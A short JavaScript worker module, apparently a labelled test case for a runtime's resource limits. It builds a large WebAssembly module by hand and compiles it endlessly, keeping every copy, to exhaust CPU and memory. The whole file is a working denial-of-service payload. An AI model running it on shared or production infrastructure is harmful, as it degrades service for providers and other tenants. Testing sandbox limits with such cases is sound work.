// attack: CPU: WebAssembly modules compiled without end, with functions as large as they may be
function leb(value) {
  const bytes = [];
  do {
    const rest = value >>> 7;
    bytes.push((value & 0x7f) | (rest > 0 ? 0x80 : 0));
    value = rest;
  } while (value > 0);
  return bytes;
}

function section(id, content) {
  return [id, ...leb(content.length), ...content];
}

function moduleOf(functions, operations) {
  const body = [0];
  for (let index = 0; index < operations; index++) body.push(0x41, index & 0x3f, 0x1a);
  body.push(0x0b);
  const code = [];
  for (let index = 0; index < functions; index++) code.push(...leb(body.length), ...body);
  return new Uint8Array([
    ...[0, 0x61, 0x73, 0x6d, 1, 0, 0, 0],
    ...section(1, [1, 0x60, 0, 0]),
    ...section(3, [...leb(functions), ...new Array(functions).fill(0)]),
    ...section(10, [...leb(functions), ...code]),
  ]);
}

export default {
  async fetch() {
    const bytes = moduleOf(100, 300);
    const kept = [];
    for (;;) kept.push(await WebAssembly.compile(bytes), new WebAssembly.Module(bytes));
  },
};
